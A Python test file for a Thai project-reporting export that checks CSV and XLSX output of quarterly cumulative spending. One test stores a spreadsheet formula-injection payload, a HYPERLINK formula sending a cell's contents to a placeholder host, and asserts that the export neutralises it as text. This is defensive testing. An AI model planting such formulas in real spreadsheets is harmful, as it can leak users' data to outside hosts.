"""The eMENSCR export: one row per project and quarter, cumulative spending."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Any

from openpyxl import load_workbook

from tests.conftest import make_user
from tidtam.plans.emenscr import COLUMNS, to_csv, to_xlsx
from tidtam.plans.progress import save_progress


def _progress(plan: Any) -> None:
    owner = make_user("emenscr-owner", "reporter", "SPM-65-53")
    project = plan.projects.get(number=9)  # budget 43,135.20
    indicator = project.indicators.get(source="003 L3193")
    save_progress(owner, project, 1, {"money_spent": "10,000", "activities_done": "ประชุม"}, 0)
    save_progress(owner, project, 2, {"money_spent": "5,000.20",
                                      f"indicator_{indicator.pk}": "40"}, 0)


def test_csv_rows_and_cumulative_spending(plan: Any) -> None:
    _progress(plan)
    data = to_csv(plan)
    assert data.startswith("\ufeff".encode())
    table = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert table[0] == [label for _, label in COLUMNS]
    q1, q2 = (dict(zip(table[0], row, strict=True)) for row in table[1:])
    assert (q1["ไตรมาส"], q1["ผลการใช้จ่ายสะสม (บาท)"]) == ("1", "10000.00")
    assert (q2["ไตรมาส"], q2["ผลการใช้จ่ายสะสม (บาท)"]) == ("2", "15000.20")
    # 15,000.20 of 43,135.20 = 34.7749…% → 34.77
    assert q2["ร้อยละการใช้จ่ายสะสมต่องบประมาณ"] == "34.77"
    assert q2["แผนการใช้จ่ายในไตรมาส (บาท)"] == "10783.80"  # 43,135.20 / 4
    assert "67.85" not in q2["ผลตัวชี้วัดถึงปัจจุบัน"] and "40.00" in q2["ผลตัวชี้วัดถึงปัจจุบัน"]
    assert len(to_csv(plan, 2).decode("utf-8-sig").splitlines()) == 2


def test_xlsx_keeps_numbers_as_numbers(plan: Any) -> None:
    _progress(plan)
    ws = load_workbook(io.BytesIO(to_xlsx(plan))).active
    assert ws is not None
    header = [c.value for c in ws[1]]
    row = {h: c.value for h, c in zip(header, ws[3], strict=True)}
    assert row["ผลการใช้จ่ายสะสม (บาท)"] == 15000.20
    assert Decimal(str(row["งบประมาณโครงการ (บาท)"])) == Decimal("43135.2")


FORMULA = '=HYPERLINK("http://example.invalid/?q="&A1,"ดูรายละเอียด")'


def test_typed_text_that_looks_like_a_formula_stays_text(plan: Any) -> None:
    owner = make_user("emenscr-formula", "reporter", "SPM-65-53")
    project = plan.projects.get(number=9)
    save_progress(owner, project, 1, {"money_spent": "100", "activities_done": FORMULA,
                                      "problems": "@SUM(1+1)"}, 0)
    ws = load_workbook(io.BytesIO(to_xlsx(plan))).active
    assert ws is not None
    header = [c.value for c in ws[1]]
    cells = dict(zip(header, ws[2], strict=True))
    activities, problems = cells["กิจกรรมที่ดำเนินการ"], cells["ปัญหา อุปสรรค"]
    assert (activities.value, activities.data_type) == (FORMULA, "s")
    assert (problems.value, problems.data_type) == ("@SUM(1+1)", "s")
    assert cells["ผลการใช้จ่ายในไตรมาส (บาท)"].data_type == "n"
    table = list(csv.reader(io.StringIO(to_csv(plan).decode("utf-8-sig"))))
    row = dict(zip(table[0], table[1], strict=True))
    assert row["กิจกรรมที่ดำเนินการ"] == "'" + FORMULA
    assert row["ปัญหา อุปสรรค"] == "'@SUM(1+1)"
    assert row["ผลการใช้จ่ายในไตรมาส (บาท)"] == "100.00"
